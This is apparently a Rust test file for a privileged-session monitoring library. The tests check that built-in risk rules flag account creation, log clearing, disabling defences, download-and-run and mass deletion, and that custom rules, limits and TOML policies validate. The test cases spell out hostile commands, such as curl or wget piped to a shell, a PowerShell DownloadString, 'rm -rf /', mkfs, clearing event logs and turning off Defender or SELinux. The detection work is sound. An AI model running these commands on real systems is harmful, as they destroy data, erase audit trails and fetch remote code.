//! Risk rules: the built-ins on the classics, tuning and adding in a document, the refusals
//! naming rule and field, the bounds on what is checked.
#![allow(clippy::unwrap_used)]

use portcullis_policy::risk::{builtin, MAX_EXCERPT, MAX_PATTERN_LEN};
use portcullis_policy::{
    Policy, PolicyDoc, RiskAction, RiskRuleDoc, RiskSet, TargetRef, TextSource,
};

fn set(docs: Vec<RiskRuleDoc>, labels: &[&str]) -> RiskSet {
    let mut doc = PolicyDoc::default_policy();
    doc.risk = docs;
    let policy = Policy::compile(&doc).unwrap();
    policy.risk_for(&TargetRef {
        name: "web01",
        labels,
    })
}

fn fired(set: &RiskSet, source: TextSource, text: &str) -> Vec<String> {
    set.check(source, text)
        .into_iter()
        .map(|h| h.rule)
        .collect()
}

#[test]
fn builtins_catch_the_classics_and_leave_everyday_commands_alone() {
    let s = set(Vec::new(), &[]);
    let typed = |t| fired(&s, TextSource::Typed, t);
    for (text, rule) in [
        ("net user eve S3cret! /add", "account_creation"),
        ("net localgroup administrators eve /add", "account_creation"),
        ("sudo useradd -m eve", "account_creation"),
        ("New-LocalUser -Name eve", "account_creation"),
        ("wevtutil cl Security", "log_clearing"),
        ("history -c", "log_clearing"),
        ("sudo rm -rf /var/log/audit", "log_clearing"),
        (
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            "defence_disabling",
        ),
        ("sudo setenforce 0", "defence_disabling"),
        ("systemctl stop auditd", "defence_disabling"),
        (
            "curl -fsSL https://x.example/i.sh | sudo bash",
            "download_and_run",
        ),
        ("wget -qO- http://x/y|sh", "download_and_run"),
        (
            "iex (New-Object Net.WebClient).DownloadString('http://x')",
            "download_and_run",
        ),
        ("rm -rf /", "mass_deletion"),
        ("sudo rm -fr --no-preserve-root /", "mass_deletion"),
        ("rm -rf ~", "mass_deletion"),
        ("format D:", "mass_deletion"),
        ("mkfs.ext4 /dev/sdb1", "mass_deletion"),
    ] {
        assert_eq!(typed(text), vec![rule.to_owned()], "{text}");
    }
    for text in [
        "ls -la /var/log",
        "net user eve",
        "rm -rf /tmp/build",
        "rm -rf ./target",
        "curl https://example.com -o page.html",
        "tail -f /var/log/syslog",
        "history | grep ssh",
        "systemctl status auditd",
        "git log --format=oneline",
    ] {
        assert!(typed(text).is_empty(), "{text}: {:?}", typed(text));
    }
}

#[test]
fn a_document_tunes_disables_and_adds_rules() {
    let mut freeze = RiskRuleDoc::named("account_creation");
    freeze.action = Some(RiskAction::Freeze);
    freeze.score = Some(90);
    let mut off = RiskRuleDoc::named("log_clearing");
    off.enabled = false;
    let mut own = RiskRuleDoc::named("prod_dump");
    own.pattern = Some(r"(?i)\bpg_dumpall\b".into());
    own.on = Some(vec![TextSource::Typed]);
    own.action = Some(RiskAction::Kill);
    own.targets = Some(vec!["label:prod".into()]);
    let docs = vec![freeze, off, own];

    let s = set(docs.clone(), &["prod"]);
    let hits = s.check(
        TextSource::Typed,
        "net user eve x /add && PG_DUMPALL > all.sql",
    );
    assert_eq!(
        hits.iter()
            .map(|h| (h.rule.as_str(), h.action, h.score))
            .collect::<Vec<_>>(),
        vec![
            ("prod_dump", RiskAction::Kill, 20),
            ("account_creation", RiskAction::Freeze, 90),
        ],
        "most severe first"
    );
    assert_eq!(hits[0].excerpt, "PG_DUMPALL");
    assert!(fired(&s, TextSource::Typed, "wevtutil cl System").is_empty());
    // Typed only, and on production only.
    assert!(fired(&s, TextSource::Screen, "pg_dumpall").is_empty());
    assert!(fired(&set(docs, &["dev"]), TextSource::Typed, "pg_dumpall").is_empty());
}

#[test]
fn bad_rules_are_refused_with_their_name_and_field() {
    let problem = |doc: RiskRuleDoc| {
        let mut policy = PolicyDoc::default_policy();
        policy.risk = vec![doc];
        Policy::compile(&policy).unwrap_err().to_string()
    };
    let mut bad = RiskRuleDoc::named("mine");
    assert_eq!(
        problem(bad.clone()),
        "risk rule \"mine\": pattern: a rule of its own needs a pattern"
    );
    bad.pattern = Some("(unclosed".into());
    assert!(
        problem(bad.clone())
            .starts_with("risk rule \"mine\": pattern: not a valid regular expression"),
        "{}",
        problem(bad.clone())
    );
    bad.pattern = Some("a{1000}{1000}".into());
    assert!(problem(bad.clone()).contains("pattern: not a valid regular expression"));
    bad.pattern = Some("x".repeat(MAX_PATTERN_LEN + 1));
    assert!(problem(bad.clone()).contains("pattern: must be from 1 to 1024"));
    bad.pattern = Some("x".into());
    bad.score = Some(101);
    assert!(problem(bad.clone()).contains("score: must be from 0 to 100"));
    bad.score = None;
    bad.on = Some(Vec::new());
    assert!(problem(bad.clone()).contains("on: empty"));
    bad.on = None;
    bad.targets = Some(vec!["prod".into()]);
    assert!(problem(bad.clone()).contains("targets: \"prod\" has no prefix"));
    bad.targets = None;
    bad.name = "has space".into();
    assert!(problem(bad.clone()).contains("letters, digits"));
    let mut policy = PolicyDoc::default_policy();
    policy.risk = vec![
        RiskRuleDoc::named("log_clearing"),
        RiskRuleDoc::named("log_clearing"),
    ];
    assert!(Policy::compile(&policy)
        .unwrap_err()
        .to_string()
        .contains("name: already used"));
}

#[test]
fn the_whole_text_is_checked_and_excerpts_are_short() {
    let s = set(Vec::new(), &[]);
    let mut long = "é".repeat(100_000);
    long.push_str(" rm -rf /");
    assert_eq!(
        fired(&s, TextSource::Clipboard, &long),
        ["mass_deletion"],
        "padding does not hide it"
    );
    let mut own = RiskRuleDoc::named("long");
    own.pattern = Some("a+".into());
    let s = set(vec![own], &[]);
    assert_eq!(
        s.check(TextSource::Clipboard, &"a".repeat(5000))[0]
            .excerpt
            .chars()
            .count(),
        MAX_EXCERPT
    );
}

#[test]
fn documents_round_trip_through_toml() {
    let text = r#"
        [[rules]]
        name = "all"
        subjects = ["*"]
        targets = ["*"]

        [[risk]]
        name = "account_creation"
        action = "freeze"

        [[risk]]
        name = "mine"
        pattern = '(?i)\bshutdown\b'
        on = ["typed", "screen"]
    "#;
    let doc: PolicyDoc = toml::from_str(text).unwrap();
    assert_eq!(doc.risk[0].action, Some(RiskAction::Freeze));
    let policy = Policy::compile(&doc).unwrap();
    let s = policy.risk_for(&TargetRef {
        name: "x",
        labels: &[] as &[&str],
    });
    assert_eq!(s.rules().count(), builtin().len() + 1);
    let again: PolicyDoc = toml::from_str(&toml::to_string(&doc).unwrap()).unwrap();
    assert_eq!(again, doc);
}

#[test]
fn behaviour_rules_are_tuned_like_the_others_and_take_no_pattern() {
    let mut loud = RiskRuleDoc::named("off_hours");
    loud.action = Some(RiskAction::Alert);
    loud.score = Some(30);
    let mut off = RiskRuleDoc::named("new_source_address");
    off.enabled = false;
    let s = set(vec![loud, off], &[]);
    let hit = s.behaviour("off_hours", "started at 03:00 UTC").unwrap();
    assert_eq!(
        (hit.action, hit.score, hit.source),
        (RiskAction::Alert, 30, TextSource::Behaviour)
    );
    assert_eq!(hit.excerpt, "started at 03:00 UTC");
    assert_eq!(
        s.behaviour("first_time_target", "x").unwrap().action,
        RiskAction::Score
    );
    assert!(
        s.behaviour("new_source_address", "x").is_none(),
        "turned off"
    );
    assert!(
        s.behaviour("account_creation", "x").is_none(),
        "a pattern rule is no behaviour"
    );
    assert!(!s.watches(TextSource::Behaviour));
    assert!(s.check(TextSource::Behaviour, "off_hours").is_empty());

    let problem = |doc: RiskRuleDoc| {
        let mut policy = PolicyDoc::default_policy();
        policy.risk = vec![doc];
        Policy::compile(&policy).unwrap_err().to_string()
    };
    let mut bad = RiskRuleDoc::named("long_session");
    bad.pattern = Some("x".into());
    assert!(problem(bad).contains("risk rule \"long_session\": pattern: behaviour rules"));
    let mut bad = RiskRuleDoc::named("mine");
    bad.pattern = Some("x".into());
    bad.on = Some(vec![TextSource::Behaviour]);
    assert!(problem(bad).contains("risk rule \"mine\": on: behaviour rules"));
}

#[test]
fn volume_rules_have_a_limit_a_document_tunes_and_only_they_take_one() {
    let s = set(Vec::new(), &[]);
    assert_eq!(s.volume_limit("clipboard_volume"), Some(1 << 20));
    assert_eq!(s.volume_limit("file_volume"), Some(100 << 20));
    assert_eq!(s.volume_limit("long_session"), None);
    let mut small = RiskRuleDoc::named("clipboard_volume");
    small.limit_bytes = Some(1000);
    small.action = Some(RiskAction::Freeze);
    let mut off = RiskRuleDoc::named("file_volume");
    off.enabled = false;
    let s = set(vec![small, off], &[]);
    assert_eq!(s.volume_limit("clipboard_volume"), Some(1000));
    assert_eq!(s.volume_limit("file_volume"), None, "turned off");
    assert_eq!(
        s.behaviour("clipboard_volume", "1001 bytes")
            .unwrap()
            .action,
        RiskAction::Freeze
    );

    let problem = |doc: RiskRuleDoc| {
        let mut policy = PolicyDoc::default_policy();
        policy.risk = vec![doc];
        Policy::compile(&policy).unwrap_err().to_string()
    };
    let mut bad = RiskRuleDoc::named("long_session");
    bad.limit_bytes = Some(5);
    assert_eq!(
        problem(bad),
        "risk rule \"long_session\": limit_bytes: only the volume rules (clipboard_volume, file_volume) take a limit"
    );
    let mut zero = RiskRuleDoc::named("file_volume");
    zero.limit_bytes = Some(0);
    assert!(problem(zero).contains("limit_bytes"));
    let doc: PolicyDoc = toml::from_str(
        "[[risk]]\nname = \"file_volume\"\nlimit_bytes = 5000000\naction = \"kill\"\n",
    )
    .unwrap();
    assert_eq!(doc.risk[0].limit_bytes, Some(5_000_000));
}
